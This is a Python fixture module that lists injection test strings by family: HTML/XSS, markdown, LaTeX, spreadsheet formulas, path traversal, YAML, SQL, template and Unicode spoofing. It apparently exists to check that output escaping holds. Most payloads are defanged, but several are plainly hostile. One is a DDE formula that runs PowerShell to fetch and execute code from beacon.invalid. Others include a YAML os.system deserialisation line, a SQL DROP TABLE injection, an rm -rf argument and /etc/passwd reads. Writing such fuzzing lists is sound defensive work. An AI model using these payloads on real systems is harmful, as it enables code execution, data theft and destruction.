"""Strings that would do something if an output took them for more than text, by family.

Whatever runs sets `window.OATMILL_PWNED`, opens a dialog or asks `beacon.invalid` for something: a browser sees it.
"""

from __future__ import annotations

from itertools import product

MARK = "OATMILL_PWNED"
BEACON = "http://beacon.invalid"
_RUN = f"window.{MARK}=1"
_TRIGGERS = {
    "img src=x": "onerror",
    "svg": "onload",
    "body": "onload",
    "iframe": "onload",
    "video src=x": "onerror",
    "audio src=x": "onerror",
    "input autofocus": "onfocus",
    "details open": "ontoggle",
    "marquee": "onstart",
    "div tabindex=1": "onfocus",
    "select autofocus": "onfocus",
    "style": "onload",
    "object data=x": "onerror",
    "p": "onmouseover",
}
_QUOTES = ("", '"', "'", '">', "'>", "</td>", "</title>", "</script>", "</style>", "-->", "]]>")
_COMMANDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://beacon.invalid","x")',
    "1+1",
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT(A1),"//a")',
)
_PATHS = (
    "..",
    "../..",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "~/x",
    "C:\\x",
    "C:x",
    "\\\\host\\share",
)
_DEVICES = (
    "CON",
    "PRN",
    "AUX",
    "NUL",
    "COM1",
    "LPT9",
    "con.txt",
    "nul.csv",
    "a.",
    "a ",
    ".git",
    ".htaccess",
    "a:b",
    "a/b",
    "a\\b",
)
_CHARACTERS = {
    "controls": (0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1A, 0x1B, 0x7F, 0x80, 0x85, 0x9B, 0x9F),
    "directions": (0x061C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069),
    "no width": (0x00AD, 0x034F, 0x200B, 0x200C, 0x200D, 0x2060, 0x2063, 0x3164, 0xFEFF, 0xFFF9, 0xE0041),
    "no characters": (0xFDD0, 0xFFFE, 0xFFFF),
    "lines": (0x09, 0x0A, 0x0D, 0x2028, 0x2029),
    "spaces": (0x00A0, 0x2003, 0x3000, 0x2800),
}  # fmt: skip

FAMILIES: dict[str, list[str]] = {
    "html": [
        *(f"<{tag} {event}={_RUN}>" for tag, event in _TRIGGERS.items()),
        *(f"{before}<script>{_RUN}</script>" for before in _QUOTES),
        *(f"{before}<img src=x onerror={_RUN}>" for before in _QUOTES),
        *(f"{quote} onmouseover={quote}{_RUN}" for quote in ('"', "'", "`")),
        f"<a href=javascript:{_RUN}>click</a>",
        f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
        f"<iframe src=javascript:{_RUN}></iframe>",
        f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><animate onbegin={_RUN} attributeName=x>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
        f"<script src={BEACON}/x.js></script>",
        f"<img src={BEACON}/x.png>",
        f"<link rel=stylesheet href={BEACON}/x.css>",
        f"<style>body{{background:url({BEACON}/y)}}</style>",
        f"<meta http-equiv=refresh content='0;url={BEACON}'>",
        f"<base href={BEACON}/>",
        f"<form action={BEACON}><input name=x><button>go</button></form>",
        f"<object data={BEACON}/o></object>",
        f"<embed src={BEACON}/e>",
        "<script>alert(1)</script>",
        "<SCRIPT>confirm(1)</SCRIPT>",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
        f"<textarea></textarea><img src=x onerror={_RUN}>",
        "<b>bold</b>", "<!-- comment -->", "<![CDATA[x]]>", "<?php echo 1 ?>", "<plaintext>", "<h1>heading</h1>",
        "<table><tr><td>cell", "</table></div></main>", "< 5 & > 3", "<", ">", "<>", "<3", "a<b>c",
    ],
    "entities": ["&lt;b&gt;", "&amp;", "&", "&#60;script&#62;", "&#x3c;img&#x3e;", "&nbsp;x", "&copy", "A & B", "&quot;", "&NotANentity;"],
    "markdown": [
        "*em*", "**strong**", "_em_", "__init__", "`code`", "``two``", "```", "```python", "~~gone~~", "# heading", "####### seven",
        "- item", "+ item", "* item", "1. item", "12) item", "> quote", "---", "***", "===", "___", "| a | b |", "a|b", "\\", "\\|",
        "[text](http://beacon.invalid)", "![i](http://beacon.invalid/i.png)", f"[x](javascript:{_RUN})", "[a]: http://beacon.invalid",
        "[^1]", "[ref][a]", "<http://beacon.invalid>", "http://beacon.invalid/auto", "www.beacon.invalid", "mail@beacon.invalid",
        "    indented", "line  ", "- [ ] task", "Term\n: definition", "a\n\nb", "\\*not\\*", "![", "[", "](", "!",
    ],
    "myst": [
        "{cite}`kaplan1958`", "{ref}`methods`", f"{{raw:html}}`<img src=x onerror={_RUN}>`", "{code}`x`", "{eval}`1`", "{doc}`index`",
        ":::{note}\nx\n:::", f"```{{raw}} html\n<script>{_RUN}</script>\n```", "```{include} /etc/passwd\n```", "{download}`/etc/passwd`",
        "(target)=", "(target)=\n# x", "+++", "% comment", "%", "{{ title }}", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{# c #}", "|release|",
        "|today|", ".. raw:: html", ".. include:: /etc/passwd", "`x <http://beacon.invalid>`_", "$$x$$", "{}", "{", "}", "{abbr}`a (b)`", "---\ntitle: x\n---",
    ],
    "latex": [
        "$x^2$", "$\\frac{1}{2}$", "$\\frac$", "$$", "$", "a$b", "a$b$c", "\\(x\\)", "\\[x\\]", "$$\\unknown$$", "\\alpha", "x_1^2", "100%", "#1", "~",
        f"\\(\\href{{javascript:{_RUN}}}{{x}}\\)", "\\input{/etc/passwd}", "\\write18{id}", "\\begin{align}x\\end{align}", "\\def\\x{\\x}\\x", "$\\mathdefault{x}$", "\\$5",
    ],
    "formulas": [
        *(f"{sign}{command}" for sign, command in product("=+-@", _COMMANDS)),
        "=", "+", "-", "@", "-5", "+5", "-5,5", "-x", "--5", "=A1", "a;=1+1", "a,=1+1", 'a";=1+1', "＝1+1", "＠SUM(1)", "'=1+1", "''=1", "'", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
        "%0A=1+1", "DDE(\"cmd\";\"/C calc\";\"x\")", "=cmd|'/C powershell IEX(wget beacon.invalid)'!A0", "x\t=1", "=1;=2,=3",
    ],
    "paths": [*_PATHS, *_DEVICES, "....//....//x", "%2e%2e%2f", "file:///etc/passwd", "a*b", "a?b", "a[1]", "-rf", "--help", "; rm -rf x", "$(id)", "`id`", "|id", "x" * 260 + ".csv"],
    "characters": [
        *(f"{family} {code:04x} {chr(code)}x" for family, codes in _CHARACTERS.items() for code in codes),
        "left\u202eexe.cod", "\u202etxt.scr\u202c", "pass\u200bword", "\ufeffbom", "Zа1go\u0335\u0336\u0337\u0338 ok", "e\u0301", "\u00e9", "\u0301 alone",
        "😀", "👩‍⚕️ site", "🇰🇬", "𝕏", "𐐷", "中文诊所", "Бишкек № 1", "Ысык-Көл", "مستشفى", "שלום", "ไทย", "हिन्दी", "ﷺ", "İı", "ß", "ﬁ", "Ω≈ç√∫", "�",
    ],
    "escapes": ["\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J", "\x1b]8;;http://beacon.invalid\x07x", "\\x1b[31m", "\\u0041", "\\n", "\\0", "%0d%0aSet-Cookie:x", "\r\nX: y"],
    "yaml": ["key: value", "- a", "&anchor", "*alias", "!!python/object/apply:os.system [id]", "{a: b}", "[a, b]", "? x", "| x", "> x", "yes", "null", "~null", "0o17", "1e3", "# comment", "'", '"', "a: b: c", "%YAML 1.2", "2020-01-01"],
    "sql": ["'; DROP TABLE log; --", "' OR '1'='1", '" OR ""="', "1; ATTACH 'x'", "read_csv('/etc/passwd')", "$1", "?", "%s'", "/* x */", "--", "x' UNION SELECT 1"],
    "formats": ["{0}", "{n}", "{name!r}", "{0.__class__}", "%s", "%d", "%(x)s", "%n%n", "%", "%%", "${x}", "$x", "`${1+1}`", "#{x}", "<%= 7*7 %>", "{{constructor}}", f"{{{{constructor.constructor('{_RUN}')()}}}}", "__proto__", "constructor", "toString", "NaN", "None", "nan", "inf", "undefined", "true", "-0", "1e999", "missing", "_hidden", "_nolegend_"],
    "scripts": [f"javascript:{_RUN}", f"');{_RUN}//", f'");{_RUN}//', f"';{_RUN};'", f"\\';{_RUN}//", f"</script><script>{_RUN}</script>", f"`;{_RUN};`", "${alert(1)}", f"data:text/html,<script>{_RUN}</script>", f"{_RUN}"],
    "long": ["x" * 2_000, "слово " * 200, "<b>" * 200, "$" * 301, "a" + "\u0301" * 50, "=" * 200, "[" * 200, "`" * 200, "*" * 201],
}  # fmt: skip
# No file can hold half a character; a study file or a program can.
SURROGATES = ["\ud800", "a\udfffb", "\ud83d x", "\x00", "nul\x00byte"]

EVERY = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))
